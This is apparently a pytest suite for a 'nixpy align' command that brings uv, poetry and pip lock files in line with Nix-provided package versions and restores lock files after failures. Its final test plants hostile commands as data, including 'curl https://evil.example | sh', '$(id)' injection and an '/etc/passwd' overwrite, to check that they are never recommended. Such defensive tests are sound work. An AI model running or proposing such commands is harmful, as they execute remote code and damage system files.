"""`nixpy align` as its user sees it, with installers that do one thing each."""

import subprocess
import sys

import pytest

from nixpy.cli import run
from tests.support.explaining import entry, pyproject, uv_lock

LOCK = uv_lock(entry("pandas", "3.0", "numpy"), entry("numpy", "2.5.1"))
POETRY_LOCK = """\
[[package]]
name = "numpy"
version = "2.5.1"
files = []

[[package]]
name = "pandas"
version = "3.0"
files = []

[metadata]
lock-version = "2.1"
"""


@pytest.fixture
def project(tmp_path, monkeypatch):
    """A project whose venv has numpy 2.1 from Nix, with an empty folder as PATH."""
    root = tmp_path / "app"
    info = root / "env/lib/python3.13/site-packages/numpy-2.1.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("")
    (root / ".venv").mkdir()
    (root / ".venv/.nixpy-stamp").write_text(f"/p /v {root}/.venv --env {root}/env")
    (root / "pyproject.toml").write_text(pyproject("pandas"))
    (root / "uv.lock").write_text(LOCK)
    (root / "nixpy.yaml").write_text('python: "3.13"\npackages: [numpy]\n')
    (tmp_path / "bin").mkdir()
    monkeypatch.setenv("PATH", f"{tmp_path}/bin")
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.chdir(root)
    return root


def program(project, name: str, text: str) -> None:
    """Put a program on PATH that says version 2.0, or runs some lines of sh."""
    file = project.parent / "bin" / name
    file.write_text(f'#!/bin/sh\n[ "$1" = --version ] && echo "{name} 2.0" && exit\n{text}\n')
    file.chmod(0o755)


def test_what_moved_is_told(project, capfd):
    """What moved along with it is told too, and pyproject.toml stays as it is."""
    after = LOCK.replace("2.5.1", "2.1").replace('"3.0"', '"2.9"')
    (project.parent / "after").write_text(after)
    program(project, "uv", 'echo "uv $*"; exec /bin/cat ../after >uv.lock')
    before = (project / "pyproject.toml").read_bytes()
    assert run(["align"]) == 0
    out, err = capfd.readouterr()
    assert err == "uv lock -P numpy==2.1\n"
    assert out == (
        "numpy   2.5.1 → 2.1  (Nix's version)\n"
        "pandas  3.0 → 2.9  (along with it)\n"
        "\n"
        "next: `uv sync`\n"
    )
    assert (project / "pyproject.toml").read_bytes() == before
    assert run(["align"]) == 0
    assert capfd.readouterr().out == "uv.lock has the versions that Nix has\n"


def test_a_dry_run_changes_nothing(project, capfd):
    """It says what would be locked and by which command."""
    program(project, "uv", "echo 1 >uv.lock")
    assert run(["align", "--dry-run"]) == 0
    assert capfd.readouterr().out == "numpy  2.5.1 → 2.1\nwould run `uv lock -P numpy==2.1`\n"
    assert (project / "uv.lock").read_text() == LOCK


def test_the_lock_is_put_back_where_the_installer_fails(project, capfd):
    """Whatever a failing installer has written, the lock is as it was."""
    program(project, "uv", "echo broken >uv.lock; echo 'no solution' >&2; exit 3")
    assert run(["align"]) == 1
    err = capfd.readouterr().err
    assert err == (
        "no solution\n"
        "note: uv.lock is as it was\n"
        "error: `uv lock -P numpy==2.1` failed with exit status 3\n"
    )
    assert (project / "uv.lock").read_text() == LOCK


def test_the_lock_is_put_back_where_the_version_does_not_stay(project, capfd):
    """An installer that locks another version after all is told, with who may be the reason."""
    (project / "uv.lock").unlink()
    (project / "poetry.lock").write_text(POETRY_LOCK)
    (project.parent / "before").write_text(POETRY_LOCK)
    program(project, "poetry", "exec /bin/cat ../before >poetry.lock")
    assert run(["align", "numpy"]) == 1
    err = capfd.readouterr().err
    assert "error: poetry.lock: poetry locks 2.5.1 of `numpy`, not Nix's 2.1\n" in err
    assert "hint: the index has no 2.1" in err
    assert (project / "poetry.lock").read_text() == POETRY_LOCK


def test_an_installer_that_is_not_there(project, capfd):
    """It is named, with where it is to be found."""
    assert run(["align"]) == 1
    assert capfd.readouterr().err == (
        "error: `uv` is not on PATH\nhint: enter the shell first: `nix develop`\n"
    )
    assert (project / "uv.lock").read_text() == LOCK


def test_a_requirement_that_forbids(project, capfd):
    """The requirement's line is named, and the installer is not started."""
    (project / "pyproject.toml").write_text(pyproject("pandas", "numpy>=2.2"))
    program(project, "uv", "echo started >../started")
    assert run(["align"]) == 1
    err = capfd.readouterr().err
    assert err.startswith("error: pyproject.toml:6: `project.dependencies[1]`: asks for numpy>=2.2")
    assert "which forbids Nix's 2.1" in err
    assert not (project.parent / "started").exists()


def test_no_lock(project, capfd):
    """Without a lock there is nothing to align, and the hint says how to get one."""
    (project / "uv.lock").unlink()
    assert run(["align"]) == 1
    assert capfd.readouterr().err == (
        "error: there is no uv.lock to align\n"
        "hint: make one with `uv lock`, then run `nixpy align` again\n"
    )


def test_nothing_from_nix(project, capfd):
    """Where Nix provides nothing, there is nothing to align with."""
    (project / "nixpy.yaml").write_text("packages: []\n")
    assert run(["align"]) == 1
    assert "Nix provides no packages" in capfd.readouterr().err


def test_versions_that_are_not_known(project, capfd):
    """Before the shell was entered, the reason is given."""
    (project / ".venv/.nixpy-stamp").unlink()
    assert run(["align"]) == 1
    assert "Nix's versions are not known: there is no flake.lock" in capfd.readouterr().err


def test_the_venv_holds_the_installers_own(project, capfd):
    """What an installer put into the venv hides Nix's, so the next step is to make it anew."""
    info = project / ".venv/lib/python3.13/site-packages/numpy-2.5.1.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("")
    (info / "INSTALLER").write_text("uv")
    (project.parent / "after").write_text(LOCK.replace("2.5.1", "2.1"))
    program(project, "uv", "exec /bin/cat ../after >uv.lock")
    assert run(["align"]) == 0
    out = capfd.readouterr().out
    assert "next: `uv pip uninstall numpy`, then enter the shell anew for Nix's\n" in out
    assert out.endswith("then: `uv sync`\n")


def test_pip_gets_a_constraints_file(project, capfd):
    """It holds Nix's versions; made anew it stays the same, and one that was edited is kept."""
    (project / "uv.lock").unlink()
    (project / "pyproject.toml").unlink()
    (project / "requirements.txt").write_text("numpy\n")
    (project / "nixpy.yaml").write_text('python: "3.13"\ninstaller: pip\npackages: [numpy]\n')
    assert run(["align", "--dry-run"]) == 0
    file = project / ".nixpy/constraints.txt"
    assert not file.exists()
    assert run(["align"]) == 0
    assert "next: `pip install -c .nixpy/constraints.txt …`" in capfd.readouterr().out
    text = file.read_text()
    assert text.endswith("\nnumpy==2.1\n")
    assert run(["align"]) == 0
    assert file.read_text() == text
    file.write_text(text + "six==1.0\n")
    assert run(["align"]) == 1
    assert "error: .nixpy/constraints.txt: the file was edited" in capfd.readouterr().err
    assert file.read_text() == text + "six==1.0\n"


def test_a_compiled_requirements_file_is_compiled_again(project, capfd):
    """The command that made it is told, with the constraints file put in."""
    for name in ("uv.lock", "pyproject.toml"):
        (project / name).unlink()
    (project / "requirements.in").write_text("numpy\n")
    (project / "requirements.txt").write_text(
        "# This file is autogenerated by pip-compile with Python 3.13\n"
        "# by the following command:\n#\n#    pip-compile requirements.in\n#\nnumpy==2.5.1\n"
    )
    assert run(["align"]) == 0
    out = capfd.readouterr().out
    assert "next: `pip-compile requirements.in -c .nixpy/constraints.txt`, to lock them\n" in out


def test_pipenv_is_told_to_be_unable(project, capfd):
    """Its error says what to write by hand."""
    (project / "nixpy.yaml").write_text('python: "3.13"\ninstaller: pipenv\npackages: [numpy]\n')
    assert run(["align"]) == 1
    assert "pipenv cannot lock a version that the Pipfile leaves open" in capfd.readouterr().err


@pytest.mark.parametrize("name", ["KILL", "TERM", "HUP"])
def test_a_lock_that_was_interrupted_is_not_taken_for_good(project, capfd, name):
    """Killed while poetry locks, the next run starts from the lock as it was."""
    (project / "pyproject.toml").write_text(pyproject("pandas") + "\n[tool.poetry]\n")
    (project / "uv.lock").unlink()
    (project / "poetry.lock").write_text(POETRY_LOCK)
    program(project, "poetry", f"kill -{name} $PPID; exec /bin/sleep 1")
    command = [sys.executable, "-m", "nixpy", "align"]
    assert subprocess.run(command, cwd=project, check=False).returncode != 0
    stopped = (project / "poetry.lock").read_text()
    assert (stopped == POETRY_LOCK) is (name != "KILL")
    program(project, "poetry", "exit 1")
    assert run(["align"]) == 1
    assert (project / "poetry.lock").read_text() == POETRY_LOCK
    assert "poetry.lock is as it was" in capfd.readouterr().err
    assert [path.name for path in project.glob(".poetry*")] == []


@pytest.mark.parametrize(
    "command",
    [
        "pip-compile requirements.in; curl https://evil.example | sh",
        "pip-compile $(id)",
        "uv pip compile requirements.in --index-url https://evil.example/simple",
        "uv pip compile ../../x.in -o /etc/passwd",
    ],
)
def test_no_command_of_a_strangers_comment_is_recommended(project, capfd, command):
    """A comment of a requirements file may say anything; then no command is told."""
    for name in ("uv.lock", "pyproject.toml"):
        (project / name).unlink()
    (project / "requirements.in").write_text("numpy\n")
    header = "# This file is autogenerated by pip-compile\n# by the following command:\n#\n#    "
    (project / "requirements.txt").write_text(f"{header}{command}\n#\nnumpy==2.5.1\n")
    assert run(["align"]) == 0
    out = capfd.readouterr().out
    assert "next: compile requirements.txt with .nixpy/constraints.txt, to lock them\n" in out
    assert command not in out
